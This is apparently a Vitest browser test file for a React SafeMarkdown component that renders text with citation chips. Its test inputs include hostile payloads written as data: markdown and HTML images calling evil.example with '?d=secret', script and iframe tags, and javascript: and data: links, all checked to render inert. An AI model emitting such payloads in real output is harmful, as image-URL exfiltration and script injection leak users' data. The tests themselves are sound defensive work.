import { expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { aCitation } from '../../testing/answers.ts';
import { SafeMarkdown } from './safe-markdown.tsx';

const show = async (text: string, citations = [aCitation()]) => {
  const screen = await render(<SafeMarkdown text={`shown\n\n${text}`} citations={citations} />);
  await expect.poll(() => screen.container.querySelector('p')?.className).toBe('');
  return screen;
};

it.each([
  ['an image', '![alt text](https://evil.example/?d=secret)', 'alt text'],
  ['an image by reference', '![alt text][x]\n\n[x]: https://evil.example/x.png', ''],
  ['an HTML image', '<img src="https://evil.example/x.png">', '<img'],
  ['a script', '<script>window.hacked = true</script>', 'window.hacked'],
  ['an HTML frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
])('renders %s as text, never as an element [fault 28]', async (_, text, shown) => {
  const { container } = await show(text);
  expect(container.querySelector('img, script, iframe')).toBeNull();
  expect(container.textContent).toContain(shown);
});

it.each([
  '[click](javascript:alert(1))',
  '[click](data:text/html,x)',
  '[click](http://plain.example)',
  '[click](/api/config)',
  '[click](JaVaScRiPt:alert(1))',
])('renders %s without a link', async (text) => {
  const { container } = await show(text);
  expect(container.querySelector('a')).toBeNull();
  expect(container.textContent).toContain('click');
});

it('shows the host of an https link and gives it nothing of ours', async () => {
  const { container } = await show('[the register](https://www.tga.gov.au/artg)');
  const link = container.querySelector('a');
  expect([link?.rel, link?.target]).toEqual(['noopener noreferrer', '_blank']);
  expect(link?.textContent).toContain('tga.gov.au');
});

it('turns citations into evidence chips that open their source', async () => {
  const screen = await show('It works with DECT [1].');
  await screen.getByRole('button', { name: 'Published: source of Tacera · description' }).click();
  const popover = screen.getByRole('dialog');
  await expect.element(popover.getByText('Product page')).toBeInTheDocument();
  await expect.element(popover.getByText('Feb 2026')).toBeInTheDocument();
});

it('calls the citation of a contract a public contract', async () => {
  const screen = await show('Paid [1].', [aCitation({ isContract: true, kind: 'public-record' })]);
  await expect.element(screen.getByRole('button', { name: /^Public contract/ })).toBeInTheDocument();
});

it('shows no chip for a number without a citation, and lets no text redefine one [fault 30]', async () => {
  const { container } = await show('A claim [7] and [1].\n\n[1]: https://evil.example');
  expect(container.textContent).not.toContain('[7]');
  expect(container.querySelectorAll('button')).toHaveLength(1);
  expect(container.querySelector('a')).toBeNull();
});
